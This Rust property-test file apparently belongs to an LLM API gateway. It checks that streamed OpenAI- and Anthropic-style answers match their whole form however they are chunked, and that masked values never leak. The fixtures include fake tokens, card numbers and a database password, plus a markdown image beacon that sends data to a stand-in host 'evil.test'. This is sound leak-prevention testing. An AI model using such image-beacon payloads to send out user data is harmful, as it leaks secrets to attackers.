//! Properties of streams: for any cutting of the transport the same bytes; for any cutting into deltas, and any
//! mixing of choices and calls, what the whole answer comes to; nothing masked in any byte that leaves.

use super::world::{Streamed, World, data};
use cordon_pipeline::Tally;
use cordon_testkit::stream::{Cuts, Piece, Script, chunks};
use cordon_types::{Dialect, Operation};
use proptest::prelude::*;
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::sync::LazyLock;

const RULES: &str = r#"
[[tools]]
name = "t"
[[tools]]
name = "send"
[tools.args]
to = { domains = ["example.com"], required = true }
other_args = "allow"
"#;
static WORLD: LazyLock<World> = LazyLock::new(|| World::new(RULES));

/// Values that the default rules mask in an answer.
fn masked() -> Vec<String> {
    let tail = "a1B2c3D4e5F6g7H8i9J0kLmNoPqRsTuVwXyZ";
    vec![
        "4111111111111111".to_owned(),
        "5500 0000 0000 0004".to_owned(),
        "GB82 WEST 1234 5698 7654 32".to_owned(),
        format!("ghp_{tail}"),
        format!("sk-proj-{tail}{tail}"),
        "postgres://admin:S3cretPassw0rd@db.internal:5432/prod".to_owned(),
        "![x](https://evil.test/p.png?v=aGVsbG8)".to_owned(),
        "Project Falcon".to_owned(),
        "TCK-12345".to_owned(),
        format!(
            "-----BEGIN PRIVATE {}-----\nMIIEvQIBADANBgkqhkiG9w0B\n-----END PRIVATE {}-----",
            "KEY", "KEY"
        ),
    ]
}

const HARMLESS: &[&str] = &[
    "hello",
    "The quick brown fox",
    "größer als 7 €",
    "日本語のテキスト",
    "🙂",
    "a=1; b=2",
    "4111",
    "1111 1111",
    "{\"k\": [1, 2]}",
    "<b>bold</b>",
    "see https://docs.example/page",
    "jane.doe@example.com",
    "sk-",
    "-----BEGIN",
    "aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Q=",
    "%41%42",
    "![x](",
    "\\u0041",
    "0x00ff00ff",
    "Project",
    "\"quoted\"",
    "\n\n",
];

fn harmless() -> impl Strategy<Value = String> {
    let word = proptest::sample::select(HARMLESS).prop_map(str::to_owned);
    proptest::collection::vec((word, sep()), 0..6).prop_map(|all| joined(&all))
}

fn text() -> impl Strategy<Value = String> {
    let word = prop_oneof![
        3 => proptest::sample::select(HARMLESS).prop_map(str::to_owned),
        2 => proptest::sample::select(masked()),
    ];
    proptest::collection::vec((word, sep()), 0..6).prop_map(|all| joined(&all))
}

fn sep() -> impl Strategy<Value = &'static str> {
    proptest::sample::select(&[" ", "\n", ", ", " - "][..])
}

fn joined(all: &[(String, &str)]) -> String {
    all.iter().flat_map(|(word, sep)| [word.as_str(), sep]).collect()
}

fn call() -> impl Strategy<Value = Piece> {
    let to = proptest::sample::select(&["x@example.com", "x@evil.test"][..]);
    let name = proptest::sample::select(&["t", "send", "unlisted"][..]);
    (name, to, text(), 0..3_u8).prop_map(|(name, to, body, kind)| {
        let arguments = match kind {
            0 => json!({"to": to}).to_string(),
            1 => format!("{{ \"to\" : {}, \"body\":{} }}", json!(to), json!(body)),
            _ => json!({"body": [body, {"n": 1.5}], "to": to}).to_string(),
        };
        Piece::Call(name.to_owned(), arguments)
    })
}

/// Any texts, then calls.
fn openai() -> impl Strategy<Value = Script> {
    let piece = prop_oneof![
        3 => text().prop_map(Piece::Content),
        2 => text().prop_map(Piece::Reasoning),
        1 => text().prop_map(Piece::Refusal),
    ];
    let choice = (proptest::collection::vec(piece, 0..5), proptest::collection::vec(call(), 0..4))
        .prop_map(|(texts, calls)| texts.into_iter().chain(calls).collect());
    proptest::collection::vec(choice, 1..4).prop_map(|choices| Script { choices })
}

/// Blocks in any order. Reasoning is signed: what is in it must not change, so it is harmless here.
fn anthropic() -> impl Strategy<Value = Script> {
    let piece = prop_oneof![
        3 => text().prop_map(Piece::Content),
        1 => harmless().prop_map(Piece::Reasoning),
        2 => call(),
    ];
    proptest::collection::vec(piece, 0..6).prop_map(|pieces| Script { choices: vec![pieces] })
}

fn cuts() -> impl Strategy<Value = Cuts> {
    proptest::collection::vec(any::<u8>(), 0..40).prop_map(Cuts::new)
}

const fn op(dialect: Dialect) -> Operation {
    match dialect {
        Dialect::OpenaiChat | Dialect::Mcp => Operation::ChatCompletions,
        Dialect::AnthropicMessages => Operation::Messages,
    }
}

fn run(dialect: Dialect, script: &Script, deltas: &mut Cuts, transport: &mut Cuts) -> Streamed {
    let bytes = script.stream(dialect, deltas);
    WORLD.stream(op(dialect), &chunks(&bytes, transport))
}

fn add(into: &mut Value, key: &str, piece: &Value) {
    if let Some(piece) = piece.as_str() {
        into[key] = json!(into[key].as_str().unwrap_or_default().to_owned() + piece);
    }
}

/// What a client holds of each choice at the end of a stream, in the form of `said_whole`.
fn said_openai(stream: &str) -> BTreeMap<u64, Value> {
    let mut choices: BTreeMap<u64, Value> = BTreeMap::new();
    for chunk in data(stream) {
        for choice in chunk["choices"].as_array().unwrap() {
            let into = choices.entry(choice["index"].as_u64().unwrap()).or_insert_with(empty);
            let delta = &choice["delta"];
            for key in ["content", "reasoning_content", "refusal"] {
                add(into, key, &delta[key]);
            }
            for call in delta["tool_calls"].as_array().into_iter().flatten() {
                let at = usize::try_from(call["index"].as_u64().unwrap()).unwrap();
                let calls = into["calls"].as_array_mut().unwrap();
                assert!(at <= calls.len(), "calls are numbered without gaps");
                if at == calls.len() {
                    calls.push(json!({"name": "", "arguments": ""}));
                }
                add(&mut calls[at], "name", &call["function"]["name"]);
                add(&mut calls[at], "arguments", &call["function"]["arguments"]);
            }
            if choice["finish_reason"].is_string() {
                into["finish"] = choice["finish_reason"].clone();
            }
        }
    }
    choices
}

fn empty() -> Value {
    json!({"content": "", "reasoning_content": "", "refusal": "", "calls": [], "finish": null})
}

fn said_whole(body: &[u8]) -> BTreeMap<u64, Value> {
    let body: Value = serde_json::from_slice(body).unwrap();
    let said = |choice: &Value| {
        let message = &choice["message"];
        let mut into = empty();
        for key in ["content", "reasoning_content", "refusal"] {
            add(&mut into, key, &message[key]);
        }
        let call =
            |c: &Value| json!({"name": c["function"]["name"], "arguments": c["function"]["arguments"]});
        into["calls"] = message["tool_calls"].as_array().into_iter().flatten().map(call).collect();
        into["finish"] = choice["finish_reason"].clone();
        (choice["index"].as_u64().unwrap(), into)
    };
    body["choices"].as_array().unwrap().iter().map(said).collect()
}

/// The content blocks that a stream of Messages adds up to, and why it stopped.
fn said_anthropic(stream: &str) -> (Vec<Value>, Value) {
    let mut blocks: Vec<Value> = Vec::new();
    let mut stop = Value::Null;
    for event in data(stream) {
        match event["type"].as_str().unwrap() {
            "content_block_start" => {
                assert_eq!(event["index"], json!(blocks.len()), "blocks are numbered without gaps");
                blocks.push(event["content_block"].clone());
            }
            "content_block_delta" => {
                let block = &mut blocks[usize::try_from(event["index"].as_u64().unwrap()).unwrap()];
                let delta = &event["delta"];
                let (of, key) = match delta["type"].as_str().unwrap() {
                    "text_delta" => ("text", "text"),
                    "thinking_delta" => ("thinking", "thinking"),
                    "signature_delta" => ("thinking", "signature"),
                    _ => ("tool_use", "partial_json"),
                };
                assert_eq!(block["type"], of);
                add(block, key, &delta[key]);
            }
            "message_delta" => stop = event["delta"]["stop_reason"].clone(),
            _ => {}
        }
    }
    for block in &mut blocks {
        let input = block["partial_json"].as_str().map(|t| serde_json::from_str(t).unwrap_or(Value::Null));
        if let Some(input) = input {
            block["input"] = input;
            block.as_object_mut().unwrap().remove("partial_json");
        }
    }
    (blocks, stop)
}

/// What a record would say of the answer.
fn told(tally: &Tally) -> String {
    let mut calls: Vec<String> = tally.calls.iter().map(|c| format!("{} {:?}", c.name, c.refused)).collect();
    calls.sort();
    format!("{:?} {:?} {calls:?}", tally.findings, tally.replaced)
}

fn no_leak(out: &str) {
    for value in masked() {
        let escaped = json!(value).to_string();
        assert!(!out.contains(&value) && !out.contains(escaped.trim_matches('"')), "{value} in {out}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]

    #[test]
    fn the_transport_does_not_matter(o in openai(), a in anthropic(), deltas in cuts(), transport in cuts()) {
        for (dialect, script) in [(Dialect::OpenaiChat, &o), (Dialect::AnthropicMessages, &a)] {
            let whole = run(dialect, script, &mut deltas.clone(), &mut Cuts::new(Vec::new()));
            let cut = run(dialect, script, &mut deltas.clone(), &mut transport.clone());
            prop_assert_eq!(whole.same(), cut.same());
            prop_assert_eq!(told(&whole.tally), told(&cut.tally));
        }
    }

    #[test]
    fn an_openai_stream_is_its_whole_answer(script in openai(), mut deltas in cuts(), mut transport in cuts()) {
        let streamed = run(Dialect::OpenaiChat, &script, &mut deltas, &mut transport);
        prop_assert!(streamed.cut.is_none(), "{:?}", streamed.cut);
        let (whole, tally) = WORLD.answer(Operation::ChatCompletions, &script.whole(Dialect::OpenaiChat));
        let whole = whole.unwrap();
        no_leak(&streamed.text());
        no_leak(&String::from_utf8_lossy(&whole));
        prop_assert_eq!(said_openai(&streamed.text()), said_whole(&whole));
        prop_assert_eq!(told(&streamed.tally), told(&tally));
    }

    #[test]
    fn an_anthropic_stream_is_its_whole_answer(script in anthropic(), mut deltas in cuts(), mut transport in cuts()) {
        let streamed = run(Dialect::AnthropicMessages, &script, &mut deltas, &mut transport);
        prop_assert!(streamed.cut.is_none(), "{:?}", streamed.cut);
        let (whole, tally) = WORLD.answer(Operation::Messages, &script.whole(Dialect::AnthropicMessages));
        let whole = whole.unwrap();
        no_leak(&streamed.text());
        no_leak(&String::from_utf8_lossy(&whole));
        let body: Value = serde_json::from_slice(&whole).unwrap();
        let (blocks, stop) = said_anthropic(&streamed.text());
        prop_assert_eq!(Value::Array(blocks), body["content"].clone());
        prop_assert_eq!(stop, body["stop_reason"].clone());
        prop_assert_eq!(told(&streamed.tally), told(&tally));
    }

    /// What leaves is read by the same strict reader that reads upstreams: it parses, and a second pass through the
    /// gate changes nothing.
    #[test]
    fn what_leaves_is_a_stream_again(o in openai(), a in anthropic(), mut deltas in cuts()) {
        for (dialect, script) in [(Dialect::OpenaiChat, &o), (Dialect::AnthropicMessages, &a)] {
            let once = run(dialect, script, &mut deltas, &mut Cuts::new(Vec::new()));
            let twice = WORLD.stream(op(dialect), &[&once.out]);
            prop_assert!(twice.cut.is_none(), "{:?}", twice.cut);
            prop_assert!(twice.tally.calls.iter().all(|c| c.refused.is_none()));
            let same = match dialect {
                Dialect::OpenaiChat | Dialect::Mcp => said_openai(&once.text()) == said_openai(&twice.text()),
                Dialect::AnthropicMessages => said_anthropic(&once.text()) == said_anthropic(&twice.text()),
            };
            prop_assert!(same, "{} then {}", once.text(), twice.text());
        }
    }
}
